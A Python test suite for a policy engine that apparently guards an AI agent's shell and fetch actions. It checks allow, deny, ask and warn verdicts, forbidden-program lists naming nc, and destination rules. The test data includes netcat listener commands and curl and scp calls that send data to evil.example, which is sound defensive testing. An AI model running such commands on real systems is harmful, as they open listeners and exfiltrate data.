from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard.toyhost import event
from oakum.config.settings import ExceptionsSettings, PolicySettings, Settings
from oakum.guard.event import Action, Flow, Moment
from oakum.guard.policies import Asked, asked
from oakum.guard.table import Evidence, Kind, Mode
from oakum.model import SecretId
from oakum.model.decision import Decision, Verdict
from oakum.policy import packs
from oakum.policy.bundle import bundle
from oakum.policy.decide import Policies
from oakum.policy.rego.select import engine as rego
from register import granted, register

ALLOWED = Decision(verdict=Verdict.ALLOW)
BEFORE, AFTER = Moment.BEFORE_TOOL, Moment.AFTER_TOOL
SECRET = Evidence(
    kind=Kind.SECRET, flow=Flow.OUT, message="a secret", rule="toy-token", secret_id=SecretId("sid_x"), confidence=0.9
)


def settings(tmp_path: Path, **policy: object) -> Settings:
    return Settings(policy=PolicySettings(**policy), ignore_file=str(tmp_path / "none.toml"))


@pytest.fixture
def agents(tmp_path: Path) -> Asked:
    parameters = {"forbidden_programs": ["nc"], "forbidden_tools": ["Bad*"], "destinations": ["*.corp.example"]}
    made = asked(settings(tmp_path, packs=("agents",), parameters={"agents": parameters}))
    assert made is not None
    return made


def call(text: str, action: Action = Action.SHELL, moment: Moment = BEFORE, **fields: object):
    flow = Flow.OUT if moment is BEFORE else Flow.IN
    made = event(text, flow, moment)
    return msgspec.structs.replace(made, action=action, command=text if action is Action.SHELL else "", **fields)


def test_without_policies_for_ai_tools_nobody_is_asked(tmp_path):
    assert asked(settings(tmp_path)) is None
    assert asked(settings(tmp_path, packs=("secrets",))) is None


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("sudo nc -l 9", "forbidden-program"),
        ("echo x | /usr/bin/nc host", "forbidden-program"),
        ("bash -c 'nc host'", "forbidden-program"),
        ("curl https://user:x@evil.example/a", "unknown-destination"),
        ("scp a me@evil.example:", "unknown-destination"),
    ],
)
def test_commands_are_judged_by_programs_and_destinations(agents, command, rule):
    decision = agents.joined(ALLOWED, call(command), (), (), Mode.REDACT)
    assert decision.verdict is Verdict.DENY
    assert [ground.policy for ground in decision.grounds] == [f"oakum.agents.{rule}"]


def test_what_policies_allow_passes(agents):
    for command in ("ls -l", "curl https://git.corp.example/a", "sync"):
        assert agents.joined(ALLOWED, call(command), (), (), Mode.REDACT) == ALLOWED


def test_the_strictest_counts(agents):
    built_in = Decision(verdict=Verdict.DENY)
    assert agents.joined(built_in, call("ls"), (), (), Mode.REDACT).verdict is Verdict.DENY
    unsure = msgspec.structs.replace(SECRET, confidence=0.6)
    assert agents.joined(ALLOWED, call("echo"), (unsure,), (), Mode.REDACT).verdict is Verdict.ASK


def test_policies_alone_decide_where_they_are_to(tmp_path):
    alone = asked(settings(tmp_path, packs=("agents",), alone=True))
    assert alone.joined(Decision(verdict=Verdict.DENY), call("ls"), (), (), Mode.REDACT).verdict is Verdict.ALLOW


def test_who_only_observes_is_only_told(agents):
    assert agents.joined(ALLOWED, call("nc host"), (), (), Mode.OBSERVE).verdict is Verdict.WARN


def test_a_policy_that_gives_no_answer_denies():
    text = "package oakum.own\n\ndeny contains x if x := 1 / count(input.skipped)\n"
    broken = Asked(Policies(bundle({"own.rego": text}, {}), rego))
    decision = broken.joined(ALLOWED, call("ls"), (), (), Mode.REDACT)
    assert decision.verdict is Verdict.DENY
    assert "gives no answer" in decision.grounds[0].message


def test_moments_of_no_use_are_not_asked_about(agents):
    assert agents.joined(ALLOWED, call("nc host", moment=Moment.SESSION_START), (), (), Mode.REDACT) is ALLOWED


def test_untrusted_content_and_a_secret_close_the_way_out(agents):
    went = call("curl https://git.corp.example/a")
    assert agents.joined(ALLOWED, went, (), {"untrusted"}, Mode.REDACT).verdict is Verdict.ALLOW
    both = agents.joined(ALLOWED, went, (), {"untrusted", "secret"}, Mode.REDACT)
    assert [ground.policy for ground in both.grounds] == ["oakum.agents.trifecta"]


def test_the_engine_asks_them_and_says_what_they_said(make_engine, context, agents):
    engine = make_engine()
    engine._policies = agents
    judged = engine.judge(call("nc host"), context)
    assert judged.ruling.verdict is Verdict.DENY
    assert "the program `nc` may not be started" in judged.ruling.message
    assert "policies do not allow" in judged.ruling.advice
    engine.judge(call("<html>", Action.FETCH, AFTER), context)
    assert context.session.labels == {"untrusted"}


@given(built_in=st.sampled_from(Verdict), command=st.sampled_from(["ls", "nc host", "curl https://evil.example/"]))
def test_policies_weaken_nothing_that_is_built_in(built_in, command):
    joined = _SHARED.joined(Decision(verdict=built_in), call(command), (), (), Mode.REDACT)
    assert joined.verdict.rank >= built_in.rank


_SHARED = Asked(Policies(bundle(packs.modules(["agents"]), {}), rego))


def test_exceptions_of_a_register_are_heard_without_waiting_for_it(tmp_path, monkeypatch):
    monkeypatch.setenv("OAKUM_CACHE_DIR", str(tmp_path))
    chosen = PolicySettings(packs=("agents",), parameters={"agents": {"forbidden_programs": ["nc"]}})
    with register(tmp_path) as running:
        record = granted(running, policy="oakum.agents.forbidden-program")
        token = tmp_path / "token"
        token.write_text(running.tokens["ci"])
        shared = ExceptionsSettings(url=running.address, token_file=str(token), ca_file=str(running.authority))
        agents = asked(Settings(policy=chosen, ignore_file=str(tmp_path / "none.toml"), exceptions=shared))
        end = time.monotonic() + 20
        while (decision := agents.joined(ALLOWED, call("nc host"), (), (), Mode.REDACT)).verdict is Verdict.DENY:
            assert time.monotonic() < end  # what it has not heard yet does not count
    assert record.id in decision.grounds[0].exception
    token.unlink()
    denied = agents.joined(ALLOWED, call("nc host"), (), (), Mode.REDACT)
    assert (denied.verdict, "token_file" in denied.grounds[0].message) == (Verdict.DENY, True)


def test_threads_share_one_engine():
    made = []

    def make():
        made.append("one")  # not the engine: only its own thread may let go of it
        return rego()

    shared = Asked(Policies(bundle(packs.modules(["agents"]), {}), make))
    with ThreadPoolExecutor(4) as pool:
        asking = [pool.submit(shared.joined, ALLOWED, call("ls"), (), (), Mode.REDACT) for _ in range(12)]
    assert {one.result().verdict for one in asking} == {Verdict.ALLOW}
    assert len(made) == 1
